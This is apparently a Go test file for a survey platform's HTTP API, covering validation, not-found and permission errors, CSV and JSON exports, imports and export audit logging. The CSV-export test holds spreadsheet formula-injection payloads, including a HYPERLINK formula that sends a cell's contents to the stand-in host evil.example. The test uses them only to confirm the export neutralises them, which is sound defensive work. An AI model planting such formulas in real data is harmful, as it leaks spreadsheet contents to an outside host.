package web

import (
	"bytes"
	"encoding/csv"
	"encoding/json"
	"fmt"
	"mime/multipart"
	"net/http"
	"net/url"
	"strings"
	"testing"
)

// TestSurveyAPIValidation: bad input is a 400 naming the field at fault.
func TestSurveyAPIValidation(t *testing.T) {
	h := newHarness(t)
	base := fmt.Sprintf("/api/v1/surveys/%d", h.ids.survey)
	noEnglish := strings.Replace(testSurveyJSON("bad"), `"en":"Comments"`, `"en":""`, 1)
	for _, c := range []struct{ method, target, body, field string }{
		{"POST", "/api/v1/surveys", noEnglish, "definition.pages[0].questions[1].text.en"},
		{"POST", "/api/v1/surveys", `{"slug":"x","name":5}`, "name"},
		{"POST", "/api/v1/surveys", `{"slug":"x","titel":"typo"}`, "titel"},
		{"PUT", base, `{"slug":"seed-survey","name":"x","settings":{"min_n":-1},"definition":{"pages":[]}}`, "settings.min_n"},
		{"GET", "/api/v1/surveys?status=open", "", "status"},
		{"GET", base + "/versions/zero", "", "n"},
		{"GET", base + "/preview?locale=fr", "", "locale"},
		{"GET", base + "/preview?draft=maybe", "", "draft"},
		{"GET", base + "/results/nps?from=2026-13-01", "", "from"},
		{"GET", base + "/results/nps?to=yesterday", "", "to"},
		{"GET", base + "/results/nps?from=2026-11-20&to=2026-11-01", "", "to"},
		{"GET", base + "/results/csat?include_flagged=perhaps", "", "include_flagged"},
		{"GET", base + "/results/trend?interval=year", "", "interval"},
		{"GET", base + "/results/compare?a_to=2026-02-01&b_from=2026-02-01&b_to=2026-03-01", "", "a_from"},
		{"GET", base + "/results/compare?a_from=2026-02-01&a_to=2026-01-01&b_from=2026-02-01&b_to=2026-03-01", "", "a_to"},
		{"GET", base + "/results/compare?from=2026-01-01&a_from=2026-01-01&a_to=2026-02-01&b_from=2026-02-01&b_to=2026-03-01", "", "from"},
		{"GET", base + "/results/breakdown", "", "dimension"},
		{"GET", base + "/results/breakdown?dimension=customer:a.b", "", "dimension"},
		{"GET", base + "/results/verbatims?group=happy", "", "group"},
		{"GET", base + "/results/verbatims?limit=0", "", "limit"},
		{"GET", base + "/results/verbatims?cursor=garbage", "", "cursor"},
		{"GET", base + "/export.csv?from=soon", "", "from"},
		{"GET", base + "/invitations?status=lost", "", "status"},
		{"GET", base + "/invitations?customer_id=-4", "", "customer_id"},
		{"PUT", base + "/contact-rules", `{"quiet_start":"25:00","quiet_end":"09:00"}`, "quiet_start"},
		{"PUT", "/api/v1/contact-rules", `{"sample_percent":0}`, "sample_percent"},
		{"POST", base + "/triggers", `{"event_name":"","delay_seconds":60}`, "event_name"},
		{"POST", base + "/triggers", `{"event_name":"Order Completed","delay_seconds":-5}`, "delay_seconds"},
		{"POST", base + "/triggers", `{"event_name":"Order Completed","conditions":[{"property":"total","op":"gt","value":"lots"}]}`, "conditions[0].value"},
		{"POST", base + "/invitations", `{"customer_ids":[1]}`, "channel"},
		{"POST", base + "/invitations", `{"customer_ids":[],"channel":"link"}`, "customer_ids"},
		{"POST", base + "/invitations", `{"customer_ids":[1],"channel":"link","at":"2026-12-01T10:00:00Z"}`, "at"},
		{"POST", "/api/v1/survey-imports", `{"csv":"a,b\n"}`, "mapping"},
	} {
		t.Run(c.method+" "+c.target, func(t *testing.T) {
			h.apiFails(c.method, c.target, "admin", c.body, http.StatusBadRequest, "invalid", c.field)
		})
	}
}

// TestSurveyAPINotFound: an unknown survey (or version, or trigger) is 404
// everywhere, exports included (as a JSON error, not an empty file).
func TestSurveyAPINotFound(t *testing.T) {
	h := newHarness(t)
	for _, target := range []string{"/api/v1/surveys/999999", "/api/v1/surveys/999999/preview", "/api/v1/surveys/999999/results/nps",
		"/api/v1/surveys/999999/results/verbatims", "/api/v1/surveys/999999/export.csv", "/api/v1/surveys/999999/export.json",
		"/api/v1/surveys/999999/triggers", "/api/v1/surveys/999999/contact-rules", "/api/v1/surveys/999999/invitations",
		"/api/v1/surveys/999999/distribution", fmt.Sprintf("/api/v1/surveys/%d/versions/9", h.ids.survey)} {
		h.apiFails("GET", target, "admin", "", http.StatusNotFound, "not_found", "*")
	}
	h.apiFails("PUT", "/api/v1/surveys/999999", "admin", testSurveyJSON("nobody"), http.StatusNotFound, "not_found", "")
	h.apiFails("POST", "/api/v1/surveys/999999/publish", "admin", "", http.StatusNotFound, "not_found", "")
	h.apiFails("PUT", "/api/v1/surveys/999999/contact-rules", "admin", `{}`, http.StatusNotFound, "not_found", "")
	h.apiFails("POST", fmt.Sprintf("/api/v1/surveys/%d/triggers/999/enable", h.ids.survey), "admin", "", http.StatusNotFound, "not_found", "")
	// A trigger exists, but of another survey.
	other := h.liveTestSurvey("other")
	h.apiFails("POST", fmt.Sprintf("/api/v1/surveys/%d/triggers/%d/disable", other.ID, h.ids.trigger), "admin", "", http.StatusNotFound, "not_found", "")
	h.apiFails("POST", fmt.Sprintf("/api/v1/surveys/%d/invitations", h.ids.survey), "admin", `{"customer_ids":[999999],"channel":"link"}`,
		http.StatusNotFound, "not_found", "customer_ids[0]")
	// A slug is unique.
	h.apiFails("POST", "/api/v1/surveys", "admin", testSurveyJSON("seed-survey"), http.StatusConflict, "conflict", "slug")
}

// TestSurveyAPIForbidden: roles without the permission get 403, and
// nothing changes.
func TestSurveyAPIForbidden(t *testing.T) {
	h := newHarness(t)
	base := fmt.Sprintf("/api/v1/surveys/%d", h.ids.survey)
	for _, who := range []string{"viewer", "agent", "key:viewer", "key:agent"} {
		h.apiFails("POST", "/api/v1/surveys", who, testSurveyJSON("nope"), http.StatusForbidden, "forbidden", "")
		h.apiFails("PUT", base, who, testSurveyJSON("seed-survey"), http.StatusForbidden, "forbidden", "")
		h.apiFails("POST", base+"/close", who, "", http.StatusForbidden, "forbidden", "")
		h.apiFails("PUT", "/api/v1/contact-rules", who, `{"cooldown_days":1}`, http.StatusForbidden, "forbidden", "")
		h.apiFails("POST", fmt.Sprintf("%s/triggers/%d/disable", base, h.ids.trigger), who, "", http.StatusForbidden, "forbidden", "")
		h.apiFails("POST", base+"/invitations", who, `{"customer_ids":[1],"channel":"link"}`, http.StatusForbidden, "forbidden", "")
		h.apiFails("GET", base+"/export.csv", who, "", http.StatusForbidden, "forbidden", "")
		h.apiFails("GET", base+"/export.json", who, "", http.StatusForbidden, "forbidden", "")
		h.apiFails("POST", "/api/v1/survey-imports", who, testImportJSON, http.StatusForbidden, "forbidden", "")
		// Reading is every role's.
		h.apiCall("GET", base+"/results/nps", who, "", http.StatusOK, nil)
	}
	var sv struct{ Status, Name string }
	h.apiCall("GET", base, "viewer", "", http.StatusOK, &sv)
	var rules struct {
		CooldownDays int `json:"cooldown_days"`
	}
	h.apiCall("GET", "/api/v1/contact-rules", "viewer", "", http.StatusOK, &rules)
	if sv.Status != "live" || sv.Name != "購入後アンケート" || rules.CooldownDays != 30 {
		t.Fatalf("a refused call changed something: %+v, cooldown %d", sv, rules.CooldownDays)
	}
	h.apiFails("GET", base, "anon", "", http.StatusUnauthorized, "unauthorized", "")
}

// TestSurveyExportCSVNeutralisesFormulas: answers that a spreadsheet
// would run as formulas come out of the HTTP export as text.
func TestSurveyExportCSVNeutralisesFormulas(t *testing.T) {
	h := newHarness(t)
	sv := h.liveTestSurvey("csv-injection")
	evil := []string{`=HYPERLINK("http://evil.example/?"&A1,"click")`, "+1+2", "-3+4", "@SUM(A1:A9)", "\tTAB", "\rCR", "plain, with comma"}
	for i, c := range evil {
		h.answer(sv, i, 7, c)
	}
	w := h.apiCall("GET", fmt.Sprintf("/api/v1/surveys/%d/export.csv", sv.ID), "manager", "", http.StatusOK, nil)
	if ct := w.Header().Get("Content-Type"); ct != "text/csv; charset=utf-8" {
		t.Fatalf("Content-Type %q", ct)
	}
	if cd := w.Header().Get("Content-Disposition"); cd != fmt.Sprintf(`attachment; filename=survey-%d-responses.csv`, sv.ID) {
		t.Fatalf("Content-Disposition %q", cd)
	}
	body := w.Body.String()
	if !strings.HasPrefix(body, "\ufeff") {
		t.Fatal("the CSV export lacks the UTF-8 byte-order mark Excel needs")
	}
	rows, err := csv.NewReader(strings.NewReader(strings.TrimPrefix(body, "\ufeff"))).ReadAll()
	if err != nil {
		t.Fatalf("export is not CSV: %v\n%s", err, body)
	}
	col := -1
	for i, name := range rows[0] {
		if name == "comment" {
			col = i
		}
	}
	if col < 0 || len(rows) != len(evil)+1 {
		t.Fatalf("header %q, %d rows", rows[0], len(rows))
	}
	got := map[string]bool{}
	for _, r := range rows[1:] {
		got[r[col]] = true
		if c := r[col]; c != "" && strings.ContainsRune("=+-@\t\r", rune(c[0])) {
			t.Errorf("cell %q starts a formula", c)
		}
	}
	for _, c := range evil {
		want := c
		if strings.ContainsRune("=+-@\t\r", rune(c[0])) {
			want = "'" + c
		}
		// encoding/csv reads a quoted \r as part of the cell, as written.
		if !got[want] {
			t.Errorf("no cell %q in the export (have %v)", want, got)
		}
	}
}

// TestSurveyExportJSON: the JSON export parses and carries the answers.
func TestSurveyExportJSON(t *testing.T) {
	h := newHarness(t)
	w := h.apiCall("GET", fmt.Sprintf("/api/v1/surveys/%d/export.json", h.ids.survey), "key:manager", "", http.StatusOK, nil)
	var out []struct {
		ResponseID int64          `json:"response_id"`
		Answers    map[string]any `json:"answers"`
		Flags      []string       `json:"flags"`
	}
	if err := json.Unmarshal(w.Body.Bytes(), &out); err != nil {
		t.Fatalf("JSON export does not parse: %v\n%s", err, w.Body.String())
	}
	if len(out) != len(seedAnswers) {
		t.Fatalf("%d responses exported, want %d", len(out), len(seedAnswers))
	}
	scores := map[float64]bool{}
	for _, r := range out {
		scores[r.Answers["nps"].(float64)] = true
		exp, ok := r.Answers["expect"].(map[string]any)
		if !ok || exp["quality"] == nil || r.Flags == nil {
			t.Fatalf("response %d: answers %v flags %v", r.ResponseID, r.Answers, r.Flags)
		}
	}
	for _, a := range seedAnswers {
		if !scores[a.nps] {
			t.Errorf("NPS answer %v missing from the export", a.nps)
		}
	}
	// Filters apply to exports too: nothing came through the widget.
	w = h.apiCall("GET", fmt.Sprintf("/api/v1/surveys/%d/export.json?channel=widget", h.ids.survey), "admin", "", http.StatusOK, nil)
	if strings.TrimSpace(w.Body.String()) != "[]" {
		t.Fatalf("filtered export %q, want []", w.Body.String())
	}
}

// TestSurveyImportForms: the same import sent as JSON, multipart and
// text/csv; the second and third find the rows already imported.
func TestSurveyImportForms(t *testing.T) {
	h := newHarness(t)
	type summary struct {
		SurveyID                                   int64 `json:"survey_id"`
		Rows, Imported, Existing, Rejected, Linked int64
	}
	var s summary
	h.apiCall("POST", "/api/v1/survey-imports", "manager", testImportJSON, http.StatusOK, &s)
	if s.Rows != 2 || s.Imported != 2 || s.Rejected != 0 || s.SurveyID == 0 {
		t.Fatalf("JSON import %+v", s)
	}
	var in struct {
		Mapping json.RawMessage `json:"mapping"`
		CSV     string          `json:"csv"`
	}
	if err := json.Unmarshal([]byte(testImportJSON), &in); err != nil {
		t.Fatal(err)
	}

	var buf bytes.Buffer
	mw := multipart.NewWriter(&buf)
	_ = mw.WriteField("mapping", string(in.Mapping))
	fw, _ := mw.CreateFormFile("file", "reviews.csv")
	_, _ = fw.Write([]byte(in.CSV))
	_ = mw.Close()
	r := h.request("POST", "/api/v1/survey-imports", "key:admin", buf.String(), true)
	r.Header.Set("Content-Type", mw.FormDataContentType())
	w := h.serve(r)
	if w.Code != http.StatusOK || json.Unmarshal(w.Body.Bytes(), &s) != nil || s.Existing != 2 || s.Imported != 0 {
		t.Fatalf("multipart import: %d %s", w.Code, w.Body.String())
	}

	r = h.request("POST", "/api/v1/survey-imports?mapping="+url.QueryEscape(string(in.Mapping)), "manager", in.CSV, true)
	r.Header.Set("Content-Type", "text/csv")
	w = h.serve(r)
	if w.Code != http.StatusOK || json.Unmarshal(w.Body.Bytes(), &s) != nil || s.Existing != 2 {
		t.Fatalf("text/csv import: %d %s", w.Code, w.Body.String())
	}

	// The imported ratings are CSAT figures like any other: 5 and 2 on 1–5,
	// one of two in the top two boxes.
	var csat struct {
		TopBox struct {
			Value float64
			N     int
		} `json:"top_box"`
	}
	h.apiCall("GET", fmt.Sprintf("/api/v1/surveys/%d/results/csat?include_flagged=true", s.SurveyID), "viewer", "", http.StatusOK, &csat)
	if csat.TopBox.N != 2 || csat.TopBox.Value != 0.5 {
		t.Fatalf("imported CSAT %+v", csat.TopBox)
	}

	r = h.request("POST", "/api/v1/survey-imports", "manager", in.CSV, true)
	r.Header.Set("Content-Type", "text/csv")
	var e apiErrorBody
	if w = h.serve(r); w.Code != http.StatusBadRequest || json.Unmarshal(w.Body.Bytes(), &e) != nil || e.Error.Field != "mapping" {
		t.Fatalf("text/csv without a mapping: %d %s", w.Code, w.Body.String())
	}
	// Over the API body limit: 413, not a partial import.
	big := testImportJSON[:len(testImportJSON)-2] + strings.Repeat("2026-01-07,4,ok\\n", maxAPIBody/14) + `"}`
	h.apiFails("POST", "/api/v1/survey-imports", "manager", big, http.StatusRequestEntityTooLarge, "too_large", "")
}

// TestSurveyExportAudited: every export is in the audit log with who,
// which survey, the format and the filter.
func TestSurveyExportAudited(t *testing.T) {
	h := newHarness(t)
	h.apiCall("GET", fmt.Sprintf("/api/v1/surveys/%d/export.csv?touchpoint=purchase", h.ids.survey), "manager", "", http.StatusOK, nil)
	h.apiCall("GET", fmt.Sprintf("/api/v1/surveys/%d/export.json", h.ids.survey), "key:admin", "", http.StatusOK, nil)
	h.apiFails("GET", fmt.Sprintf("/api/v1/surveys/%d/export.json", h.ids.survey), "viewer", "", http.StatusForbidden, "forbidden", "")
	var page struct {
		Items []struct {
			ActorLabel string         `json:"actor_label"`
			TargetType string         `json:"target_type"`
			TargetID   string         `json:"target_id"`
			Detail     map[string]any `json:"detail"`
		}
	}
	h.apiCall("GET", "/api/v1/audit?action=data.exported", "admin", "", http.StatusOK, &page)
	if len(page.Items) != 2 {
		t.Fatalf("%d export entries, want 2 (a refused export is not one): %+v", len(page.Items), page.Items)
	}
	jsonEntry, csvEntry := page.Items[0], page.Items[1] // newest first
	id := fmt.Sprint(h.ids.survey)
	if csvEntry.ActorLabel != "manager@example.com" || csvEntry.TargetType != "survey" || csvEntry.TargetID != id ||
		csvEntry.Detail["format"] != "csv" || csvEntry.Detail["touchpoint"] != "purchase" {
		t.Fatalf("CSV export entry %+v", csvEntry)
	}
	if jsonEntry.ActorLabel != "key-admin" || jsonEntry.Detail["format"] != "json" || jsonEntry.TargetID != id {
		t.Fatalf("JSON export entry %+v", jsonEntry)
	}
}
